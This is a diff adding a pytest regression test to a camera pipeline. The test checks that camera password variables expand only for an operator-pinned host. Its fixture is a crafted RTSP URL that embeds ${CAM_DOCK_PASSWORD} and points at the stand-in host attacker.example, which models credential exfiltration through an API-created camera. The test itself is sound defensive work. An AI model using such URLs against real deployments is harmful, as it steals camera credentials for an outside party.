@@ -181,3 +181,21 @@ def test_a_camera_id_added_again_never_shows_the_removed_cameras_image(api, redi
         assert not client.exists(key)
     finally:
         api.delete("/cameras/door")
+
+
+def test_a_host_the_operator_pinned_keeps_a_cameras_variables_from_any_other_host():
+    """An API caller could DELETE camera dock and POST a dock naming its own host: the decoders
+    sent CAM_DOCK_PASSWORD there. With CAM_DOCK_HOST set (the operator's environment) the
+    variables are expanded for that host only; the camera fails naming both hosts, no secret."""
+    from pipeline.config_env import CameraEnvError, resolve_camera
+
+    stolen = CameraConfig.model_validate({"id": "dock", "url": "rtsp://viewer:${CAM_DOCK_PASSWORD}@attacker.example/s"})
+    assert foreign_variable_error(stolen, "url") is None  # the API takes it: its own variable, as its password
+    env = {"CAM_DOCK_PASSWORD": "Sup3rSecret", "CAM_DOCK_HOST": "10.0.0.9"}
+    with pytest.raises(CameraEnvError) as refused:
+        resolve_camera(stolen, env)
+    assert "'attacker.example'" in str(refused.value) and "CAM_DOCK_HOST" in str(refused.value)
+    assert "Sup3rSecret" not in str(refused.value)
+    own = stolen.model_copy(update={"url": "rtsp://viewer:${CAM_DOCK_PASSWORD}@10.0.0.9:554/s"})
+    assert resolve_camera(own, env).url == "rtsp://viewer:Sup3rSecret@10.0.0.9:554/s"
+    assert "attacker.example" in resolve_camera(stolen, {"CAM_DOCK_PASSWORD": "x"}).url  # no pin: as before
